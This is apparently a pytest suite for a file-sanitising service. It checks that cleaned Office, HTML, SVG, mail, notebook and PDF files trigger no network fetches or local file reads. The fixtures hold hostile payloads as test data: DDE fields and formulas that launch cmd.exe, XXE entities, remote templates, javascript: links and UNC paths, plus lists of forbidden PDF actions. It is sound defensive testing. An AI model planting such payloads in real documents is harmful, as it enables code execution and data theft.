"""Nothing in a file makes its readers fetch anything: a listener and a file that should stay untouched say so."""

import io
import os
import re
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from submissions.reasons import Reason
from tests.files import docx, hostile, pdf, pptx, xlsx
from tests.files.office import DECLARATION, OFFICE, relationships, replaced, unzipped
from tests.hostile import makers
from tests.hostile.line import Line

pytestmark = pytest.mark.django_db

SECRET = "canary-of-the-host-4711"
_EXTERNAL = re.compile(rb"<Relationship\b[^>]*TargetMode=[\"']External[\"'][^>]*>", re.IGNORECASE)
_KEPT = re.compile(rb"Type=[\"'][^\"']*/hyperlink[\"']")
_WEB = re.compile(rb"Target=[\"'](?:https?://|mailto:)", re.IGNORECASE)
KINDS = tuple(makers.entities(""))


@dataclass(slots=True)
class Canary:
    """A listener that counts who knocks, and a file that only its name leads to."""

    listener: socket.socket
    file: Path
    knocks: list[str] = field(default_factory=list)

    @property
    def address(self) -> str:
        """Where the listener listens."""
        return f"http://127.0.0.1:{self.listener.getsockname()[1]}"

    def listen(self) -> None:
        """Take connections until the listener is closed."""
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.knocks.append("knock")
            connection.close()

    def unread_since(self) -> bool:
        """Whether nobody has opened the file: its access time is older than its making."""
        status = os.stat(self.file)
        return status.st_atime_ns < status.st_mtime_ns


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Canary]:
    """A canary that must live."""
    file = tmp_path / "host-secret.txt"
    file.write_text(SECRET)
    # With relatime, a read moves an access time that is older than the last change.
    os.utime(file, (1_000_000_000, 1_500_000_000))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        made = Canary(listener, file)
        thread = threading.Thread(target=made.listen, daemon=True)
        thread.start()
        yield made
        listener.shutdown(socket.SHUT_RDWR)
    thread.join(5)


def unharmed(canary: Canary, copy: bytes) -> None:
    """Hold the canary and the copy to the promise."""
    assert canary.knocks == []
    assert canary.unread_since()
    assert SECRET.encode() not in copy
    assert canary.address.encode() not in copy


def leading_out(copy: bytes) -> list[bytes]:
    """Return the external relationships of a package other than links that a reader may follow."""
    found = [match for data in unzipped(copy).values() for match in _EXTERNAL.findall(data)]
    return [link for link in found if not (_KEPT.search(link) and _WEB.search(link))]


def test_the_canary_notices_a_knock_and_a_read(canary: Canary) -> None:
    socket.create_connection(("127.0.0.1", int(canary.address.rpartition(":")[2])), 2).close()
    for _ in range(100):
        if canary.knocks:
            break
        threading.Event().wait(0.01)
    assert canary.knocks
    canary.file.read_text()
    if canary.unread_since():
        pytest.fail("this file system keeps no access times, so that a read would go unnoticed")


@pytest.mark.parametrize(
    ("family", "part", "kind"),
    [
        (family, part, KINDS[number % len(KINDS)])
        for offset, family in enumerate(("docx", "xlsx", "pptx"))
        for number, part in enumerate(makers.parts_of(family))
        if (number + offset) % 3 == 0
    ],
)
def test_no_part_may_define_entities(family: str, part: str, kind: str, line: Line, canary: Canary) -> None:
    entity_free(family, part, kind, line, canary)


@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("family", ["docx", "xlsx", "pptx"])
def test_no_part_may_define_any_kind_of_entity(family: str, kind: str, line: Line, canary: Canary) -> None:
    for part in makers.parts_of(family):
        entity_free(family, part, kind, line, canary)


def entity_free(family: str, part: str, kind: str, line: Line, canary: Canary) -> None:
    """Play one poisoned part. A part that nothing reaches is no reason to refuse, but is not in the copy."""
    data = makers.with_entity(family, part, kind, canary.address)
    data = data.replace(b"/etc/passwd", os.fsencode(canary.file)) if kind != "file" else data
    played = line.play(f"a.{family}", data)
    if played.reason is None:
        assert all(b"<!DOCTYPE" not in content for content in unzipped(played.copy).values())
        assert part not in unzipped(played.copy)
    else:
        assert played.reason is Reason.DTD_REFUSED
    assert played.strayed == []
    unharmed(canary, played.copy)


def _reaching_html(canary: Canary) -> bytes:
    at, file = canary.address, canary.file.as_uri()
    return (
        f'<html><head><link rel="stylesheet" href="{at}/a.css"><style>@import url({at}/b.css);'
        f"p {{ background: url({at}/c.png) }}</style><base href='{at}/'><meta http-equiv='refresh' content='0;{at}/'>"
        f'<script src="{at}/s.js"></script></head><body background="{at}/bg.png">'
        f'<p style="background:url({at}/d)">words</p>'
        f'<img src="{at}/e.png" srcset="{at}/f.png 2x"><img src="{file}"><iframe src="{at}/g"></iframe>'
        f'<object data="{file}"></object><embed src="{at}/h"><video poster="{at}/i"><source src="{at}/j"></video>'
        f'<svg><image xlink:href="{at}/k.png"/><use href="{at}/l.svg#x"/></svg><form action="{at}/m"><input></form>'
        f"</body></html>"
    ).encode()  # fmt: skip


def _reaching_mail(canary: Canary) -> bytes:
    page = _reaching_html(canary).decode()
    external = f'Content-Type: message/external-body; access-type=URL; URL="{canary.address}/x"\r\n\r\n\r\n'
    body = f"--b\r\nContent-Type: text/html\r\n\r\n{page}\r\n--b\r\n{external}\r\n--b--\r\n"
    return makers.mail(body.encode(), 'Content-Type: multipart/mixed; boundary="b"')


def _reaching_svg(canary: Canary) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{canary.address}/s.xsl" type="text/xsl"?>'
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{canary.file.as_uri()}"><!ENTITY y SYSTEM "{canary.address}/y">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{canary.address}/a.png"/><image xlink:href="{canary.file.as_uri()}"/>'
        f"<text>&x;&y;</text></svg>"
    ).encode()


def _reaching_notebook(canary: Canary) -> bytes:
    return makers.notebook(
        {"text/html": _reaching_html(canary).decode(), "image/svg+xml": _reaching_svg(canary).decode()}
    )


TEXTS: dict[str, Callable[[Canary], bytes]] = {
    "page.html": _reaching_html,
    "mail.eml": _reaching_mail,
    "drawing.svg": _reaching_svg,
    "note.ipynb": _reaching_notebook,
    "code.zip": lambda canary: hostile.zip_of([("a.svg", _reaching_svg(canary)), ("b.html", _reaching_html(canary))]),
    "page.md": lambda canary: (
        f"![picture]({canary.address}/a.png)\n\n# Title\n\n<img src='{canary.address}/b'>\n".encode()
    ),
    "page.xml": lambda canary: makers.html_with_doctype(canary.address),
}


@pytest.mark.parametrize("name", TEXTS)
def test_reading_a_page_fetches_nothing(name: str, line: Line, canary: Canary) -> None:
    played = line.play(name, TEXTS[name](canary))
    assert canary.knocks == []
    assert canary.unread_since()
    assert SECRET.encode() not in played.copy
    assert played.strayed == []
    assert played.reason is None or played.stopped


def _word(links: list[tuple[str, ...]], body: str = "") -> bytes:
    spaces = docx._SPACES
    document = (
        f"{DECLARATION}<w:document {spaces}><w:body><w:p><w:r><w:t>words</w:t></w:r></w:p>{body}</w:body></w:document>"
    )
    return replaced(
        docx.plain("x"), {"word/document.xml": document, "word/_rels/document.xml.rels": relationships(links)}
    )


def _word_with_template(canary: Canary) -> bytes:
    settings = f'{DECLARATION}<w:settings {docx._SPACES}><w:attachedTemplate r:id="rId1"/></w:settings>'
    types = unzipped(docx.plain("x"))["[Content_Types].xml"].decode()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
    types = types.replace("</Types>", f'<Override PartName="/word/settings.xml" ContentType="{kind}"/></Types>')
    return replaced(
        _word([("rId9", "settings", "settings.xml")]),
        {
            "[Content_Types].xml": types,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relationships(
                [("rId1", "attachedTemplate", f"{canary.address}/evil.dotm", "External")]
            ),
        },
    )


_BLIP = (
    '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rId1"/>'
    "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
_FIELDS = "".join(
    f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    for code in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
        "INCLUDEPICTURE &quot;{at}/p.png&quot; \\d",
        "INCLUDETEXT &quot;{at}/t.docx&quot;",
        "LINK Excel.Sheet.8 &quot;{at}/x.xls&quot; a",
        "HYPERLINK &quot;file://server/share/x.exe&quot;",
    )
)

OFFICE_FILES: dict[str, Callable[[Canary], bytes]] = {
    "linked picture": lambda c: _word([("rId1", "image", f"{c.address}/a.png", "External")], _BLIP),
    "picture on the host": lambda c: _word([("rId1", "image", c.file.as_uri(), "External")], _BLIP),
    "remote template": _word_with_template,
    "linked object": lambda c: _word([("rId1", "oleObject", f"{c.address}/o.html", "External")]),
    "linked chunk": lambda c: _word(
        [("rId1", "aFChunk", f"{c.address}/c.html", "External")], '<w:altChunk r:id="rId1"/>'
    ),
    "linked frame": lambda c: _word([("rId1", "frame", f"{c.address}/f.html", "External")]),
    "linked sub-document": lambda c: _word([("rId1", "subDocument", f"{c.address}/s.docx", "External")]),
    "a share": lambda c: _word([("rId1", "image", "\\\\127.0.0.1\\share\\a.png", "External")], _BLIP),
    "link of another case": lambda c: _word([("rId1", "IMAGE", f"{c.address}/a.png", "external")], _BLIP),
    "script in a link": lambda c: _word([("rId1", "hyperlink", "javascript:alert(1)", "External")]),
    "file in a link": lambda c: _word([("rId1", "hyperlink", c.file.as_uri(), "External")]),
    "fields": lambda c: _word([], _FIELDS.replace("{at}", c.address)),
    "external workbook": lambda c: replaced(
        xlsx.plain(("a", "b"), ("=[1]Sheet1!A1", 2)),
        {
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                [("rId1", "externalLinkPath", f"{c.address}/b.xlsx", "External")]
            )
        },
    ),
    "web query": lambda c: xlsx.plain(
        (f'=WEBSERVICE("{c.address}/q")', f'=IMAGE("{c.address}/i")', "=cmd|'/c calc'!A0")
    ),
    "linked media": lambda c: replaced(
        pptx.deck(pptx.planted()),
        {
            "ppt/slides/_rels/slide1.xml.rels": unzipped(pptx.deck(pptx.planted()))["ppt/slides/_rels/slide1.xml.rels"]
            .decode()
            .replace(
                "</Relationships>",
                f'<Relationship Id="rIdV" Type="{OFFICE}/video" Target="{c.address}/v.mp4" TargetMode="External"/>'
                f'<Relationship Id="rIdA" Type="{OFFICE}/audio" Target="{c.file.as_uri()}" TargetMode="External"/>'
                "</Relationships>",
            )
        },
    ),
    "everything a letter may link": lambda c: docx.letter(docx.planted()),
    "everything a workbook may link": lambda c: xlsx.ledger(xlsx.planted()),
}


@pytest.mark.parametrize("name", OFFICE_FILES)
def test_the_copy_of_an_office_file_leads_nowhere_but_to_the_web(name: str, line: Line, canary: Canary) -> None:
    data = OFFICE_FILES[name](canary)
    played = line.play("a.bin", data)
    assert canary.knocks == []
    assert canary.unread_since()
    assert played.strayed == []
    if played.reason is not None:
        assert played.stopped == "child"
        return
    assert zipfile.is_zipfile(io.BytesIO(played.copy))
    assert leading_out(played.copy) == []
    whole = b"".join(unzipped(played.copy).values())
    for forbidden in (b"DDE", b"INCLUDE", b"javascript:", b"file:/", b"attachedTemplate", SECRET.encode(), b"cmd|"):
        assert forbidden not in whole, forbidden


def test_the_copy_of_a_pdf_starts_nothing(line: Line, canary: Canary) -> None:
    played = line.play("a.pdf", makers.pdf_with_launch())
    assert played.copy
    for forbidden in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/GoToR", b"/OpenAction", b"/AA", b"calc.exe"):
        assert forbidden not in played.copy
    assert pdf.NAME.encode() not in played.copy
    unharmed(canary, played.copy)
